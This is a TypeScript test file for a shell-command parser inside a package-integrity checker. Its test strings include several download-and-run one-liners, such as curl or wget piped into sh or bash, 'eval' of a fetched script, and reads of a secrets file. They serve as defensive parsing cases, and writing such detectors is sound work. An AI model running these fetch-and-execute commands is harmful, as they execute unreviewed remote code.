import { describe, expect, it } from 'vitest';
import { packageSourceFactsOf } from '../../../core/integrity/packages.js';
import { readShell, shellCommands } from '../../../core/integrity/shell-words.js';

/** The one shell word reader (container commands for package sources, lifecycle scripts for download-then-run). */
const words = (s: string) => readShell(s).map((c) => c.words);
const ops = (s: string) => readShell(s).map((c) => c.op);

describe('readShell', () => {
  it('reads quotes: single literal, double with its four escapes, adjacent parts one word', () => {
    expect(words(`echo 'a "b" \\n;c' "d \\"e\\" \\$HOME \\x" f'g'"h"`)).toEqual([['echo', 'a "b" \\n;c', 'd "e" $HOME \\x', 'fgh']]);
    // An empty quoted word is a word.
    expect(words(`set -- "" ''`)).toEqual([['set', '--', '', '']]);
  });

  it('reads backslash escapes and joins continuations; a comment runs to the end of its line, a # inside a word does not start one', () => {
    expect(words('pip install a\\ b \\\n  --index-url=https://a/s # the index ; not a command\necho x#y')).toEqual([
      ['pip', 'install', 'a b', '--index-url=https://a/s'],
      ['echo', 'x#y'],
    ]);
    expect(words('curl https://x.example/a#frag')).toEqual([['curl', 'https://x.example/a#frag']]);
  });

  it('ends commands at the control operators and says which', () => {
    const s = 'a && b || c; d | e |& f & g\nh;; i ( j ) k';
    expect(words(s)).toEqual([['a'], ['b'], ['c'], ['d'], ['e'], ['f'], ['g'], ['h'], ['i'], ['j'], ['k']]);
    expect(ops(s)).toEqual(['&&', '||', ';', '|', '|&', '&', '\n', ';;', '(', ')', undefined]);
    // Quoted operators stay in their word; a redirection's & is no operator.
    expect(words(`pip install 'x; python_version>"3"' && curl -s URL 2>&1 | bash &>/dev/null`)).toEqual([
      ['pip', 'install', 'x; python_version>"3"'], ['curl', '-s', 'URL', '2>&1'], ['bash', '&>/dev/null'],
    ]);
  });

  it('keeps a command or process substitution whole as a word, and reads its commands after the one holding it', () => {
    expect(readShell('bash <(curl -fsSL https://x.example/i.sh) --y')).toEqual([
      { words: ['bash', '<(curl -fsSL https://x.example/i.sh)', '--y'], depth: 0 },
      { words: ['curl', '-fsSL', 'https://x.example/i.sh'], depth: 1 },
    ]);
    // Inside double quotes too, whose quotes inside the substitution are its own; nested substitutions and $((…)).
    expect(readShell(`sh -c "$(wget -qO- "https://x.example/a b" | tr -d '\\r')" && n=$((1 + $(id -u)))`)).toEqual([
      { words: ['sh', '-c', `$(wget -qO- "https://x.example/a b" | tr -d '\\r')`], op: '&&', depth: 0 },
      { words: ['wget', '-qO-', 'https://x.example/a b'], op: '|', depth: 1 },
      { words: ['tr', '-d', '\\r'], depth: 1 },
      { words: ['n=$((1 + $(id -u)))'], depth: 0 },
      { words: ['1', '+', '$(id -u)'], op: ')', depth: 1 },
      { words: ['id', '-u'], depth: 2 },
    ]);
    // A substitution as an index value is one word (it was cut at its parenthesis).
    expect(shellCommands('pip install -i $(cat /run/secrets/idx) helpers')).toEqual([['pip', 'install', '-i', '$(cat /run/secrets/idx)', 'helpers'], ['cat', '/run/secrets/idx']]);
    // So a package index given as a command's output is named whole, quoted or not.
    for (const script of ['pip install -i $(cat /run/secrets/idx) helpers', 'pip install -i "$(cat /run/secrets/idx)" helpers']) {
      expect(packageSourceFactsOf({ command: ['sh', '-c', script] }).unverifiable).toEqual(['-i $(cat /run/secrets/idx): the output of a command']);
    }
    // Backquoted, the index is named whole too (unquoted it was cut at its blank: `-i \`cat`).
    for (const script of ['pip install -i `cat /run/secrets/idx` helpers', 'pip install -i "`cat /run/secrets/idx`" helpers']) {
      expect(packageSourceFactsOf({ command: ['sh', '-c', script] }).unverifiable).toEqual(['-i `cat /run/secrets/idx`: the output of a command']);
    }
    // Backquotes are a command substitution too (they were words split at their blanks, their command unread).
    expect(words('V=`curl -s https://x.example/v`; echo $V')).toEqual([['V=`curl -s https://x.example/v`'], ['curl', '-s', 'https://x.example/v'], ['echo', '$V']]);
  });

  it('reads a backquoted command as $(…) is read: assigned, inside double quotes, evaluated; an escaped backquote is a character', () => {
    expect(readShell('X=`curl -s https://x.example/v` && eval `wget -qO- https://x.example/e`')).toEqual([
      { words: ['X=`curl -s https://x.example/v`'], op: '&&', depth: 0 },
      { words: ['curl', '-s', 'https://x.example/v'], depth: 1 },
      { words: ['eval', '`wget -qO- https://x.example/e`'], depth: 0 },
      { words: ['wget', '-qO-', 'https://x.example/e'], depth: 1 },
    ]);
    // In double quotes the quotes resume after it; a ')' or ';' inside it is its own.
    expect(readShell('bash -c "`curl https://x.example/i.sh | tr -d \')\'`; x" y')).toEqual([
      { words: ['bash', '-c', "`curl https://x.example/i.sh | tr -d ')'`; x", 'y'], depth: 0 },
      { words: ['curl', 'https://x.example/i.sh'], op: '|', depth: 1 },
      { words: ['tr', '-d', ')'], depth: 1 },
    ]);
    // `$(…)` inside backquotes and backquotes inside `$(…)`; an escaped backquote inside backquotes (the old nesting) is a
    // nested substitution, as the shell runs it (verify28c: it was text, so `id` / a download in it went unseen).
    expect(words('a `b $(c) d` $(e `f`)')).toEqual([['a', '`b $(c) d`', '$(e `f`)'], ['b', '$(c)', 'd'], ['c'], ['e', '`f`'], ['f']]);
    expect(words('echo "`echo \\`id\\``"')).toEqual([['echo', '`echo \\`id\\``'], ['echo', '\\`id\\`'], ['id']]);
    expect(words('X=`echo \\`curl -s https://x.example/v\\` ok`; echo "\\`"')).toEqual([['X=`echo \\`curl -s https://x.example/v\\` ok`'], ['echo', '\\`curl -s https://x.example/v\\`', 'ok'], ['curl', '-s', 'https://x.example/v'], ['echo', '`']]);
    expect(words('echo \\`id\\` x')).toEqual([['echo', '`id`', 'x']]);
    // Unclosed, it runs to the end of the script.
    expect(readShell('x `curl -s URL | bash')).toEqual([
      { words: ['x', '`curl -s URL | bash'], depth: 0 },
      { words: ['curl', '-s', 'URL'], op: '|', depth: 1 },
      { words: ['bash'], depth: 1 },
    ]);
  });

  it('follows case … esac: a pattern\'s ) inside $(…) does not close the substitution', () => {
    const s = 'v=$(case "$1" in a) echo a;; (b|c) curl -s https://x.example/b | sh;; *) echo z;; esac) && next';
    expect(readShell(s)).toEqual([
      { words: ['v=$(case "$1" in a) echo a;; (b|c) curl -s https://x.example/b | sh;; *) echo z;; esac)'], op: '&&', depth: 0 },
      { words: ['case', '$1', 'in', 'a'], op: ')', depth: 1 },
      { words: ['echo', 'a'], op: ';;', depth: 1 },
      { words: ['b'], op: '|', depth: 1 },
      { words: ['c'], op: ')', depth: 1 },
      { words: ['curl', '-s', 'https://x.example/b'], op: '|', depth: 1 },
      { words: ['sh'], op: ';;', depth: 1 },
      { words: ['*'], op: ')', depth: 1 },
      { words: ['echo', 'z'], op: ';;', depth: 1 },
      { words: ['esac'], depth: 1 },
      { words: ['next'], depth: 0 },
    ]);
    // Nested cases, `in` on the next line, `esac` then more commands; the substitution's own ) closes it after esac.
    expect(words('x=$(case a\nin a) case b in b) y;; esac;; esac; z) w')).toEqual([
      ['x=$(case a\nin a) case b in b) y;; esac;; esac; z)', 'w'], ['case', 'a'], ['in', 'a'], ['case', 'b', 'in', 'b'], ['y'], ['esac'], ['esac'], ['z'],
    ]);
    // In backquotes, and at the top (where a pattern's ) closed nothing but still ends the pattern).
    expect(words('`case $x in a) curl u;; esac` ok')).toEqual([['`case $x in a) curl u;; esac`', 'ok'], ['case', '$x', 'in', 'a'], ['curl', 'u'], ['esac']]);
    // A `case` word that is an argument opens nothing: `)` closes the substitution.
    expect(words('$(echo case x in a) b')).toEqual([['$(echo case x in a)', 'b'], ['echo', 'case', 'x', 'in', 'a']]);
  });

  it('reads a here-document body as commands (a `sudo -i <<EOF` body is a script run as such)', () => {
    // The delimiter line ends the body; it is no command.
    expect(words('sudo -u ec2-user -i <<EOF\naws s3 cp s3://b/k /tmp/k\nEOF')).toEqual([['sudo', '-u', 'ec2-user', '-i', '<<EOF'], ['aws', 's3', 'cp', 's3://b/k', '/tmp/k']]);
  });

  it('reads each here-document body apart, up to its delimiter line: a quote left open in one does not hide the commands after it', () => {
    // `Don't` in a file's text opened a quote that ran to the script's end: the conda create after it was never read.
    expect(words("cat > /home/ec2-user/README <<EOF\nDon't delete this env\nEOF\nsudo -u ec2-user -i <<'EOF'\nconda create -y -n e -c corp-ml python=3.10\nEOF\necho done")).toEqual([
      ['cat', '>', '/home/ec2-user/README', '<<EOF'], ['Dont delete this env\n'], ['sudo', '-u', 'ec2-user', '-i', '<<EOF'], ['conda', 'create', '-y', '-n', 'e', '-c', 'corp-ml', 'python=3.10'], ['echo', 'done'],
    ]);
    // Nested (a file written inside a `sudo -i` body), two on one line, `<<-` with its tab-indented delimiter, a quoted delimiter.
    expect(words("sudo -i <<EOF\ncat > f <<'X'\nit's\nX\npip install -i https://p.example/s y\nEOF\necho end")).toEqual([
      ['sudo', '-i', '<<EOF'], ['cat', '>', 'f', '<<X'], ['its\n'], ['pip', 'install', '-i', 'https://p.example/s', 'y'], ['echo', 'end'],
    ]);
    expect(words("cat <<A; cat <<-\"B\"\na'\nA\n\tb\"\n\tB\necho done")).toEqual([['cat', '<<A'], ['cat', '<<-B'], ['a\n'], ['b\n'], ['echo', 'done']]);
    // A here-string (`<<<`) has no body; a body never closed runs to the script's end, read as commands.
    expect(words("cat <<<'x'\necho a")).toEqual([['cat', '<<<x'], ['echo', 'a']]);
    expect(words('bash <<EOF\ncurl -s https://x.example/i.sh | sh')).toEqual([['bash', '<<EOF'], ['curl', '-s', 'https://x.example/i.sh'], ['sh']]);
  });

  it('ends sanely on unbalanced input: an open quote or substitution runs to the end of the script', () => {
    expect(words(`echo "a b; c`)).toEqual([['echo', 'a b; c']]);
    expect(words(`echo 'a b; c`)).toEqual([['echo', 'a b; c']]);
    expect(readShell('x $(curl -s URL | bash')).toEqual([
      { words: ['x', '$(curl -s URL | bash'], depth: 0 },
      { words: ['curl', '-s', 'URL'], op: '|', depth: 1 },
      { words: ['bash'], depth: 1 },
    ]);
    expect(words('a ) b ) c')).toEqual([['a'], ['b'], ['c']]);
    expect(words('trailing\\')).toEqual([['trailing']]);
  });

  it('reads adversarial 64 KiB scripts in one pass: deep nesting kept as text past 16 levels, every quote unbalanced', () => {
    const n = 16 * 1024;
    const deep = `${'$('.repeat(n)}curl x${')'.repeat(n)}`;
    // Bounded work, counted (not timed: the machine may be loaded): each character read once, a substitution's text
    // copied once into the word holding it, at most 16 levels deep.
    const bound = (s: string) => 18 * s.length + 16;
    let work = { steps: 0 };
    const read = readShell(deep, work);
    expect(work.steps).toBeLessThanOrEqual(bound(deep));
    expect(read[0]).toEqual({ words: [deep], depth: 0 });
    expect(Math.max(...read.map((c) => c.depth))).toBe(16);
    // Deep and unclosed, in and out of double quotes; backquotes unbalanced, mixed with $( and quotes; case heads
    // never closed, patterns in and out of substitutions.
    const adversarial = [
      '$("'.repeat(n), `"${'$( "'.repeat(n)}`, `<(${'('.repeat(n)}`, "'\"".repeat(n), '\\'.repeat(4 * n + 1), '$(('.repeat(n), ')'.repeat(4 * n),
      '`'.repeat(4 * n + 1), '`$("'.repeat(n), '"`\''.repeat(n), '$(case x in '.repeat(n / 2), 'case x in a) '.repeat(n / 4), '$(case x in a) ;; '.repeat(n / 4),
      `${'`case x in ('.repeat(n / 4)}${')'.repeat(n)}`, 'esac) '.repeat(n), `${'a<'.repeat(n)}${'&'.repeat(2 * n)}`, `x${'#`'.repeat(n)}`,
      // Escaped backquotes inside backquotes (a nested substitution, one level): opened and closed, unbalanced, in quotes.
      '`\\`'.repeat(n), `${'`a \\`b '.repeat(n / 2)}`, `"\`${'\\`$(\\`'.repeat(n / 2)}`,
      // Here-documents: nested on every line (16 levels read apart, then text), many on one line never closed, closed and reopened.
      'cat <<A\n'.repeat(n / 2), `${'<<A '.repeat(n)}\n'x`, "<<A\n'\nA\n".repeat(n / 2), `${'<<-"A" '.repeat(n / 4)}\n${'\tA\n'.repeat(n / 4)}`,
    ];
    for (const s of adversarial) {
      expect(s.length).toBeGreaterThanOrEqual(n);
      work = { steps: 0 };
      const r = readShell(s, work);
      expect(work.steps).toBeLessThanOrEqual(bound(s));
      expect(r.length).toBeLessThanOrEqual(s.length);
      for (const c of r) expect(c.depth).toBeLessThanOrEqual(16);
    }
  });
});
